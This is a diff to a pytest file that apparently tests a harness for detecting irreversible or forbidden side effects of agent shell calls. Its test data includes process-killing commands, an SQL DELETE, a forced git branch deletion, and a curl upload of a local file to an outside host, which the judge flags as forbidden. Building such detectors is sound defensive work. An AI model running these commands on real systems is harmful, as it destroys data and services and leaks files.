@@ -296,6 +296,29 @@ def test_everything_that_was_made_anew_in_a_deleted_folder_is_told():
     ]
 
 
+@pytest.mark.parametrize("call", ["pkill nginx", "kill -9 4711", "killall nginx"])
+def test_a_process_that_the_end_state_misses_is_told_once(call):
+    gone = Effect(trial_id="t", channel="process", resource="process:nginx", change="killed")
+    (row,) = with_calls("t", acts(call), (gone,))
+    assert (row.resource, row.irreversible, row.evidence) == ("process:nginx", True, (0,))
+
+
+def test_rows_that_a_statement_lost_are_told_by_the_end_state():
+    rows = [
+        Effect(
+            trial_id="t",
+            channel="row",
+            resource=f"row:/app/shop.db:t:{key}",
+            change="deleted",
+            irreversible=False,
+        )
+        for key in (1, 2)
+    ]
+    found = with_calls("t", acts("sqlite3 shop.db 'DELETE FROM t'"), rows, workdir="/app")
+    assert [row.resource for row in found] == [row.resource for row in rows]
+    assert all(row.irreversible for row in found)
+
+
 def test_what_leaves_no_trace_is_told_by_the_call():
     row = with_calls(
         "t", acts("ls", "curl -d @x https://up.example.org"), (), judge=lambda *of: ("forbidden", 1.0)
@@ -333,6 +356,8 @@ def test_what_became_of_local_refs_is_for_the_end_state_to_say():
     assert added(amend, Effect(**ref, irreversible=True)) == []
     assert added(amend, Effect(**ref, irreversible=False)) == []
     assert added(amend, Effect(**ref)) == [("git", "git:HEAD")]
+    branch = Effect(**{**ref, "change": "deleted", "step": None}, irreversible=False)
+    assert added(["git branch -D main"], branch) == []
 
 
 def test_rows_without_the_folder_of_calls_are_those_with_it():
